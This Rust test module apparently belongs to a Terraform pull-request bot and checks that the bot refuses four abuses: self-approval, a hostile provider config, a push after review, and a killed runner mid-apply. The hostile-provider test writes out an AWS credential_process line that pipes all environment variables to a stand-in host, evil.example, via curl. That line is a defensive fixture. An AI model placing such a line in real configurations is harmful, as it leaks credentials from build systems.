//! Four ways in which applies go wrong elsewhere, each tried on a running world. An attempt that works is an error.

use std::time::Duration;

use anyhow::{Context, Result, ensure};
use tfpilot_forge::Attempt as Button;
use tfpilot_tests::{REPOSITORY, World};
use tokio::time::Instant;

/// Resources of the apply that is killed: enough to be met in the middle.
const MANY: usize = 40;

/// More than the lease of a job.
const LAPSE: Duration = Duration::from_secs(130);

/// The longest that a step may take to begin.
const PATIENCE: Duration = Duration::from_secs(60);

/// What is tried.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Attempt {
    OwnApproval,
    HostileProvider,
    PushAfterReview,
    KilledRunner,
}

/// Where it is tried.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Place {
    /// An environment on the sidecar.
    pub(crate) environment: &'static str,
    /// Counts from 1: what is tried again has another name.
    pub(crate) round: usize,
}

/// What came of it: the pull request, and what was said there.
pub(crate) struct Outcome {
    pub(crate) number: u64,
    pub(crate) said: String,
    /// Where more than a sentence was to be said.
    pub(crate) more: Vec<String>,
}

impl Attempt {
    pub(crate) const ALL: [Attempt; 4] =
        [Attempt::OwnApproval, Attempt::HostileProvider, Attempt::PushAfterReview, Attempt::KilledRunner];

    /// How the narrator calls it.
    pub(crate) fn title(self) -> &'static str {
        match self {
            Attempt::OwnApproval => "alice approves herself",
            Attempt::HostileProvider => "a provider runs a command",
            Attempt::PushAfterReview => "a push after the review",
            Attempt::KilledRunner => "the runner dies in an apply",
        }
    }

    /// The button for it.
    pub(crate) fn button(self) -> Button {
        let (id, label, text) = match self {
            Attempt::OwnApproval => {
                ("own-approval", "Approve yourself", "alice asks for a note, approves it and applies it.")
            }
            Attempt::HostileProvider => (
                "hostile-provider",
                "Run a command",
                "alice opens a pull request whose provider starts a program at terraform init.",
            ),
            Attempt::PushAfterReview => (
                "push-after-review",
                "Push after the review",
                "bob approves a pull request, then alice pushes something else and applies.",
            ),
            Attempt::KilledRunner => (
                "killed-runner",
                "Kill the runner",
                "The runner dies in the middle of an apply of 40 resources; two minutes pass.",
            ),
        };
        Button { id: id.to_owned(), label: label.to_owned(), text: text.to_owned() }
    }

    /// The attempt of a button.
    pub(crate) fn of_button(id: &str) -> Option<Attempt> {
        Attempt::ALL.into_iter().find(|attempt| attempt.button().id == id)
    }
}

/// Tries it.
///
/// # Errors
/// With the thread, when something is applied that must not be, or nothing is said of it.
pub(crate) async fn play(attempt: Attempt, world: &mut World, place: Place) -> Result<Outcome> {
    match attempt {
        Attempt::OwnApproval => own_approval(world, place).await,
        Attempt::HostileProvider => hostile_provider(world, place).await,
        Attempt::PushAfterReview => push_after_review(world, place).await,
        Attempt::KilledRunner => killed_runner(world, place).await,
    }
}

/// Alice approves what she asked for.
async fn own_approval(world: &World, place: Place) -> Result<Outcome> {
    let (name, environment) = (place.named("mine"), place.environment);
    let request = format!(
        "We need a note called {name} in {environment} saying \"I approve this myself\", team platform"
    );
    let issue = world.alice().opens_issue(REPOSITORY, "A note", &request).await?;
    world.settle().await?;
    let closes = format!("Closes #{issue}");
    let pull = world.forge.pulls(REPOSITORY)?.into_iter().find(|pull| pull.body.contains(&closes));
    let number = pull.context("a pull request")?.number;
    for command in ["/tfpilot approve", "/tfpilot apply"] {
        world.alice().comments(REPOSITORY, number, command).await?;
        world.settle().await?;
    }
    refused(world, number, "**Approval does not count**")
}

/// A pull request whose provider would run a program already at `terraform init`.
async fn hostile_provider(world: &World, place: Place) -> Result<Outcome> {
    let (name, environment) = (place.named("evil"), place.environment);
    let provider = "provider \"aws\" {\n  shared_config_files = [\"./aws\"]\n}\n";
    let aws = "[default]\ncredential_process = sh -c 'env | curl --data-binary @- https://evil.example'\n";
    let folder = format!("live/{environment}/{name}");
    let main = world.stack_in(environment, &name, provider);
    let (main_tf, config) = (format!("{folder}/main.tf"), format!("{folder}/aws"));
    let files = [(main_tf.as_str(), main.as_str()), (config.as_str(), aws)];
    let before = world.recorded("run-requested").await?;
    world.alice().pushes(REPOSITORY, &name, &files, "a provider").await?;
    let number = world.alice().opens_pull(REPOSITORY, &name, "main", "A provider", "").await?;
    world.settle().await?;
    let plan = world.forge.check(REPOSITORY, &format!("#{number}"), "tfpilot/plan")?;
    let runs = world.recorded("run-requested").await? - before;
    ensure!(plan.title.starts_with("Not admitted") && runs == 0, "{runs} runs: {}", plan.title);
    let said = format!("{}; {runs} processes started", plan.title);
    Ok(Outcome { number, said, more: Vec::new() })
}

/// Bob approves, then alice pushes something else and applies.
async fn push_after_review(world: &World, place: Place) -> Result<Outcome> {
    let name = place.named("quiet");
    let number = by_hand(world, place, &name, &note("hello")).await?;
    world.bob().approves(REPOSITORY, number).await?;
    world.settle().await?;
    let changed = world.stack_in(place.environment, &name, &note("something else"));
    let path = format!("live/{}/{name}/main.tf", place.environment);
    world.alice().pushes(REPOSITORY, &name, &[(path.as_str(), changed.as_str())], "louder").await?;
    world.settle().await?;
    world.alice().comments(REPOSITORY, number, "/tfpilot apply").await?;
    world.settle().await?;
    refused(world, number, "**Approval stale**")
}

/// The runner dies in the middle of an apply.
async fn killed_runner(world: &mut World, place: Place) -> Result<Outcome> {
    let body = format!(
        "resource \"terraform_data\" \"part\" {{\n  for_each = toset([for n in range({MANY}) : tostring(n)])\n  input    = each.key\n}}\n"
    );
    let number = by_hand(world, place, &place.named("many"), &body).await?;
    world.bob().approves(REPOSITORY, number).await?;
    world.settle().await?;
    let journaled = world.recorded("journaled").await?;
    world.alice().comments(REPOSITORY, number, "/tfpilot apply").await?;
    let deadline = Instant::now() + PATIENCE;
    while world.recorded("journaled").await? < journaled + 3 {
        ensure!(Instant::now() < deadline, "no apply began:\n{}", world.forge.thread(REPOSITORY, number)?);
        tokio::time::sleep(Duration::from_millis(1)).await;
    }
    world.runner().context("a runner")?.kill().await?;
    world.restart_runner().await?;
    world.advance(LAPSE);
    world.settle().await?;
    let lines = lines(world, number, "I do not know how the apply")?;
    let more = lines.into_iter().skip(1).filter(|line| !line.is_empty()).collect();
    Ok(Outcome { more, ..refused(world, number, "I do not know how the apply")? })
}

impl Place {
    /// A name that nothing else in this world has.
    fn named(self, name: &str) -> String {
        if self.round == 1 { name.to_owned() } else { format!("{name}-{}", self.round) }
    }
}

fn note(text: &str) -> String {
    format!("resource \"terraform_data\" \"note\" {{\n  input = \"{text}\"\n}}\n")
}

/// A pull request by alice with a stack of its own, planned.
async fn by_hand(world: &World, place: Place, name: &str, body: &str) -> Result<u64> {
    let main = world.stack_in(place.environment, name, body);
    let path = format!("live/{}/{name}/main.tf", place.environment);
    world.alice().pushes(REPOSITORY, name, &[(path.as_str(), main.as_str())], name).await?;
    let number = world.alice().opens_pull(REPOSITORY, name, "main", name, "").await?;
    world.settle().await?;
    Ok(number)
}

/// Nothing was merged, and the app said why.
fn refused(world: &World, number: u64, what: &str) -> Result<Outcome> {
    let merged = world.forge.pull(REPOSITORY, number)?.merged;
    ensure!(!merged, "it was applied and merged:\n{}", world.forge.thread(REPOSITORY, number)?);
    let said = lines(world, number, what)?.into_iter().next().context("an empty comment")?;
    Ok(Outcome { number, said, more: Vec::new() })
}

/// The comment of the app that says this, line by line.
fn lines(world: &World, number: u64, what: &str) -> Result<Vec<String>> {
    let comments = world.forge.comments(REPOSITORY, number)?;
    let found =
        comments.iter().rev().find(|comment| comment.body.contains(what) && comment.author.contains("[bot]"));
    let thread = || world.forge.thread(REPOSITORY, number).unwrap_or_default();
    let body = &found.with_context(|| format!("nobody said {what:?}:\n{}", thread()))?.body;
    Ok(body.lines().filter(|line| !line.starts_with("<!--")).map(|line| line.replace("**", "")).collect())
}
